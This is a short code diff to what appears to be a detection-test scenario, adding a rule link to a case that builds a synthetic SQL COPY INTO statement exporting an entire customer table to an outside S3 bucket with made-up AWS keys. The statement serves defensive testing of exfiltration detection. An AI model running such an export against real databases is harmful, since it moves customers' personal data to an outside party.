@@ -9,6 +9,7 @@ export const copyIntoCredentials: Scenario = {
   title: 'Statement with explicit cloud credentials moves data out',
   expect: 'A commandSubmit text with COPY INTO and CREDENTIAL; the stored text must not hold the key.',
   techniques: ['T1537', 'T1552.001'],
+  rules: ['copy-into-with-credentials'],
   play({ account, random, at, person, sit }) {
     const key = `AKIA${random.hex(8).toUpperCase()}`
     const text = `COPY INTO 's3://zx-archive-7731/dump' FROM (SELECT * FROM customer.profiles.customers) FILEFORMAT = PARQUET WITH (CREDENTIAL (AWS_ACCESS_KEY = '${key}', AWS_SECRET_KEY = '${random.hex(20)}'))`
